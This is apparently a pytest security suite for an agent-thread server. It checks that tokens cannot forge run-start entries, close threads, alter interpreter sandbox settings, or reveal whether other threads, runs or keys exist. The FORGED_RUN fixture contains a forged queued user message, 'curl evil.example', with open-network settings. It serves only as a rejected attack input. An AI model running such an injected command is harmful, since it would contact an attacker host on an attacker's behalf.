"""Attacks with a token of a thread: to launch, to end, to fence, to hide; and to learn what else is there."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from tests.attacks.conftest import Outside
from tests.threads.access.test_authority import PAYLOADS

from holdfast.storage.sqlite.access.api_keys import SqliteApiKeys
from holdfast.testing.server import ServerProcess
from holdfast.threads.access.authority import MAY_WRITE, Writer
from holdfast.threads.access.credentials import Access, RunScope

FORGED_RUN: list[dict[str, Any]] = [
    {
        "id": "start-r-forged",
        "payload": {
            "type": "signal.run.started",
            "run": "r-forged",
            "epoch": 1,
            "agent": "pi",
            "model": "",
            "provider": "local",
            "prompts": [],
            "options": {"spec": {"provider": "local", "network": {"mode": "open"}}},
        },
    },
    {
        "id": "end-r-forged",
        "payload": {"type": "signal.run.finished", "run": "r-forged", "status": "completed", "by": "runner"},
    },
    {"payload": {"type": "chat", "role": "user", "text": "curl evil.example", "queued": True}},
]
CREDENTIALS = ("key", "write", "read", "link", "runner", "model", "subscription", "nothing")


@pytest.fixture(scope="module")
def thread(outside: Outside) -> str:
    return outside.thread(title="of the attacks")


@pytest.fixture(scope="module")
def credentials(outside: Outside, thread: str) -> dict[str, str | None]:
    link = outside.admin("POST", f"/v1/threads/{thread}/links", json={"ttlSeconds": 600})["path"]
    secret = bytes.fromhex((outside.server.home / "secret").read_text().strip())
    # What runs are given. It is good at the guest API of its box alone, however well it is signed.
    access = Access(_NoKeys(), secret)
    subscription = {"type": "pull-wake", "streams": [f"threads/{thread}"], "wake_stream": "wakes"}
    outside.admin("PUT", "/v1/stream/wakes", headers={"content-type": "application/json"})
    name = f"/v1/stream/__ds/subscriptions/s-{thread}"
    outside.admin("PUT", name, json=subscription)
    outside.admin("POST", f"/v1/threads/{thread}/chat", json={"text": "wake up"})
    claimed = outside.admin("POST", f"{name}/claim", json={"worker": "w"})
    return {
        "key": outside.server.api_key,
        "write": outside.token(thread, "write"),
        "read": outside.token(thread, "read"),
        "link": f"hfl_{thread}.{link.partition('#key=')[2]}",
        "runner": access.issue_run(thread, "r-1", 2, "b-1", RunScope.RUNNER, agent="pi").token,
        "model": access.issue_run(thread, "r-1", 2, "b-1", RunScope.MODEL, model="m").token,
        "subscription": str(claimed["token"]),
        "nothing": None,
    }


class _NoKeys(SqliteApiKeys):
    def __init__(self) -> None: ...


def expected(credential: str, kind: Any) -> tuple[int, ...]:
    match credential:
        case "key":
            return (200, 204)
        case "write":
            return (200, 204) if Writer.TOKEN in MAY_WRITE[kind] else (403,)
        case "read" | "link":
            return (403,)
        case _:
            return (401,)


@pytest.mark.parametrize("credential", CREDENTIALS)
@pytest.mark.parametrize("kind", list(PAYLOADS))
def test_each_credential_writes_what_the_table_says_and_nothing_else(
    outside: Outside, thread: str, credentials: dict[str, str | None], credential: str, kind: Any
) -> None:
    path = f"/v1/stream/threads/{thread}"
    for payload in PAYLOADS[kind]:
        before = outside.types(thread).count(payload["type"])
        answer = outside.ask("POST", path, credentials[credential], json=[{"payload": payload}])
        assert answer.status_code in expected(credential, kind), (payload, answer.text)
        assert outside.types(thread).count(payload["type"]) == before + (1 if answer.is_success else 0)


@pytest.fixture(scope="module")
def unlocked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outside]:
    with ServerProcess(tmp_path_factory.mktemp("unlocked") / "home", auth=False) as server:
        yield Outside(server)


def test_a_server_that_asks_for_no_key_gives_everybody_what_a_key_gives_and_no_seal(unlocked: Outside) -> None:
    thread = unlocked.thread()
    for kind in PAYLOADS:
        for payload in PAYLOADS[kind]:
            answer = unlocked.ask("POST", f"/v1/stream/threads/{thread}", None, json=[{"payload": payload}])
            assert answer.status_code in (200, 204), answer.text
    refused = unlocked.ask("POST", f"/v1/stream/threads/{thread}", None, json=FORGED_RUN)
    assert refused.status_code == 403
    assert unlocked.admin("GET", f"/v1/threads/{thread}").get("run") is None


@pytest.mark.parametrize("scope", ["key", "write"])
def test_a_run_is_neither_launched_nor_shown_by_who_forges_its_entries(outside: Outside, scope: str) -> None:
    mine = outside.thread()
    credential = outside.server.api_key if scope == "key" else outside.token(mine, "write")
    for entries in (FORGED_RUN, FORGED_RUN[:1], FORGED_RUN[1:2]):
        answer = outside.ask("POST", f"/v1/stream/threads/{mine}", credential, json=entries)
        assert answer.status_code == 403, answer.text
    # Without the ids of runs a key may write them. They are text.
    unnamed = [{"payload": each["payload"]} for each in FORGED_RUN]
    outside.ask("POST", f"/v1/stream/threads/{mine}", credential, json=unnamed)
    shown = outside.admin("GET", f"/v1/threads/{mine}")
    assert (shown["status"], shown.get("run")) == ("idle", None)
    assert outside.types(mine).count("signal.run.started") == (1 if scope == "key" else 0)


def test_a_thread_cannot_be_created_with_a_run_on_it(outside: Outside) -> None:
    for id in ("t-born-with", "t-born-with-2"):
        answer = outside.ask("PUT", f"/v1/stream/threads/{id}", outside.server.api_key, json=FORGED_RUN)
        assert answer.status_code == 403
        assert outside.ask("GET", f"/v1/threads/{id}", outside.server.api_key).status_code == 404


@pytest.mark.parametrize("id", ["end-r-1", "start-r-1", "cancel-r-1", "interrupt-r-1", "r-1-1-1"])
def test_the_ids_by_which_runs_end_cannot_be_taken_first(outside: Outside, thread: str, id: str) -> None:
    token = outside.token(thread, "write")
    for credential in (token, outside.server.api_key):
        path = f"/v1/threads/{thread}/chat"
        assert outside.ask("POST", path, credential, json={"text": "x", "id": id}).status_code in (403, 422)
        entry = {"id": id, "payload": {"type": "chat", "text": "x"}}
        assert outside.ask("POST", f"/v1/stream/threads/{thread}", credential, json=[entry]).status_code == 403


@pytest.mark.parametrize("scope", ["key", "write"])
def test_nobody_fences_the_runs_of_a_thread_by_their_producer(outside: Outside, thread: str, scope: str) -> None:
    credential = outside.server.api_key if scope == "key" else outside.token(thread, "write")
    headers = {"producer-id": "run", "producer-epoch": "9007199254740991", "producer-seq": "0"}
    entry = {"payload": {"type": "chat", "text": "mine now"}}
    path = f"/v1/stream/threads/{thread}"
    assert outside.ask("POST", path, credential, json=[entry], headers=headers).status_code == 403
    other = {**headers, "producer-id": "mine"}
    assert outside.ask("POST", path, credential, json=[entry], headers=other).is_success


def test_a_token_closes_no_thread(outside: Outside) -> None:
    mine = outside.thread()
    token = outside.token(mine, "write")
    closing = {"stream-closed": "true"}
    path = f"/v1/stream/threads/{mine}"
    assert outside.ask("POST", path, token, headers=closing).status_code == 403
    entry = {"payload": {"type": "chat", "text": "bye"}}
    assert outside.ask("POST", path, token, json=[entry], headers=closing).status_code == 403
    assert outside.ask("POST", path, token, json=[entry]).is_success


def test_the_token_of_an_interpreters_thread_does_not_decide_what_it_is_made_with(outside: Outside) -> None:
    outside.thread(id="t-i-mine", labels={"interpreter": "i-mine"})
    token = outside.token("t-i-mine", "write")
    settings = {"box": {"provider": "local", "network": {"mode": "open"}}}
    entry = {"payload": {"type": "interpreter.settings", "settings": settings}}
    path = "/v1/stream/threads/t-i-mine"
    assert outside.ask("POST", path, token, json=[entry]).status_code == 403
    labelled = {"payload": {"type": "signal.thread.labelled", "labels": {"interpreter": "i-other"}}}
    assert outside.ask("POST", path, token, json=[labelled]).status_code == 403
    # A key may write it. No box is made by it: that takes the request that makes an interpreter.
    outside.admin("POST", path, json=[entry])
    answer = outside.ask("POST", "/v1/interpreters/i-mine/execute", outside.server.api_key, json={"code": "1"})
    assert (answer.status_code, answer.json()["error"]["code"]) == (404, "interpreter_not_found")


# --- what a token tells of what is not its own ---


@pytest.fixture(scope="module")
def there(outside: Outside) -> dict[str, str]:
    """One of each kind, none of which is the token's."""
    thread = outside.thread()
    interpreter = outside.admin("POST", "/v1/interpreters", json={})["id"]
    box = outside.admin("POST", "/v1/boxes", json={})["box"]["id"]
    outside.admin(
        "PUT", "/v1/models/there", json={"apis": ["anthropic"], "baseUrl": "http://127.0.0.1:9", "model": "m"}
    )
    run = outside.admin("POST", "/v1/runs", json={"prompt": "x", "agent": "pi", "model": "there", "thread": thread})
    outside.admin("POST", f"/v1/runs/{run['run']}/cancel")
    key = outside.admin("GET", "/v1/keys")["keys"][0]["id"]
    return {"threads": thread, "runs": run["run"], "boxes": box, "interpreters": interpreter, "keys": key}


MISSING = {"threads": "t-none", "runs": "r-none", "boxes": "b-none", "interpreters": "i-none", "keys": "k-none"}


def test_what_is_there_and_what_is_not_look_alike_to_another_threads_token(
    outside: Outside, there: dict[str, str]
) -> None:
    mine = outside.thread()
    tokens = [outside.token(mine, scope) for scope in ("read", "write")]
    document = outside.admin("GET", "/v1/openapi.json")
    asked = 0
    for path, methods in document["paths"].items():
        kind = path.split("/")[2] if path.startswith("/v1/") else ""
        if "{" not in path or kind not in there:
            continue
        for method in methods:
            for token in tokens:
                found, missing = (_answer(outside, method, path, ids, token) for ids in (there[kind], MISSING[kind]))
                assert found == missing, (method, path)
                assert found[0] in (401, 403), (method, path, found)
                asked += 1
    assert asked > 60
    # A run's route takes the id of a thread as well.
    for token in tokens:
        for method, path in (
            ("GET", "/v1/runs/{id}"),
            ("GET", "/v1/runs/{id}/diagnose"),
            ("POST", "/v1/runs/{id}/cancel"),
        ):
            found, missing = (_answer(outside, method, path, id, token) for id in (there["threads"], "t-none"))
            assert found == missing


@pytest.mark.parametrize("method", ["GET", "HEAD", "POST", "PUT", "DELETE"])
def test_streams_that_are_there_and_that_are_not_look_alike(
    outside: Outside, there: dict[str, str], method: str
) -> None:
    token = outside.token(outside.thread(), "write")
    found, missing = (
        _answer(outside, method, "/v1/stream/threads/{id}", id, token) for id in (there["threads"], "t-none")
    )
    assert found == missing
    assert found[0] == 403


def _answer(outside: Outside, method: str, path: str, id: str, token: str) -> tuple[int, str]:
    """Status and words, with the id taken out of them: who asks knows that."""
    first, _, rest = path.partition("{")
    filled = first + id + _filled(rest.partition("}")[2])
    body: dict[str, Any] = {} if method in ("GET", "HEAD", "DELETE", "get", "delete") else {"json": {"text": "x"}}
    answer = outside.ask(method.upper(), filled, token, **body)
    words = "" if not answer.content else answer.json()["error"]["message"]
    return answer.status_code, words.replace(id, "ID")


def _filled(rest: str) -> str:
    while "{" in rest:
        before, _, after = rest.partition("{")
        rest = f"{before}1{after.partition('}')[2]}"
    return rest
